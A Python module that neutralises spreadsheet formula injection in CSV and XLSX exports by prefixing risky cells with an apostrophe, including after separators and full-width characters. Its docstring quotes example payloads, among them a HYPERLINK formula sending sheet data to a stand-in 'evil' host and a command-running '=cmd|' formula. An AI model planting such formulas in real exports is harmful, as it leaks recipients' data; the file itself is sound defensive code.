"""Cells safe to open in a spreadsheet: no partner's text runs as a formula.

A CSV or XLSX cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, or their full-width forms ``＝ ＋ － ＠``, also after leading spaces) is run as a formula
by Excel and LibreOffice: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet,
``=cmd|...`` runs a command on old versions. A Finnish Excel opens a comma-separated file
with ``;`` as the delimiter, so a cell ``a;=1+1`` becomes two cells there, the second a
formula. ``neutralise_cell`` puts an apostrophe (which spreadsheets show as text, not as a
character) before every such start: at the beginning and after every ``;`` ``,`` or tab.
Numbers and missing values pass unchanged, so counts stay numbers.

Every writer of CSV or XLSX in the project (hotspot exports, district figures, rejects)
goes through ``neutralise_cell`` / ``neutralise_frame``.
"""

from __future__ import annotations

import re
from typing import Final

import pandas as pd

#: Characters that make a cell a formula (ASCII and full-width forms), after optional blanks.
_FORMULA: Final = "=+\\-@\uff1d\uff0b\uff0d\uff20"
_START: Final = re.compile(rf"^([ \u00a0\u3000]*)(?=[{_FORMULA}\t\r])")
_AFTER_SEPARATOR: Final = re.compile(rf"([;,\t][ \u00a0\u3000]*)(?=[{_FORMULA}])")


def neutralise_cell(value: object) -> object:
    """Return ``value`` made inert for a spreadsheet (text only; numbers and missing values pass).

    Parameters
    ----------
    value
        A cell value.

    Returns
    -------
    object
        The same value, or text with an apostrophe before each formula start.
    """
    if not isinstance(value, str) or not value:
        return value
    text = _AFTER_SEPARATOR.sub(lambda m: m.group(1) + "'", value)
    if _START.match(text) or text[0] in "\t\r":
        text = "'" + text
    return text


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` (object cells) with every text cell neutralised; numbers stay numbers.

    Parameters
    ----------
    frame
        Any table; not modified.

    Returns
    -------
    DataFrame
        The copy, cells passed through ``neutralise_cell``.
    """
    return frame.astype(object).map(neutralise_cell)


__all__ = ["neutralise_cell", "neutralise_frame"]
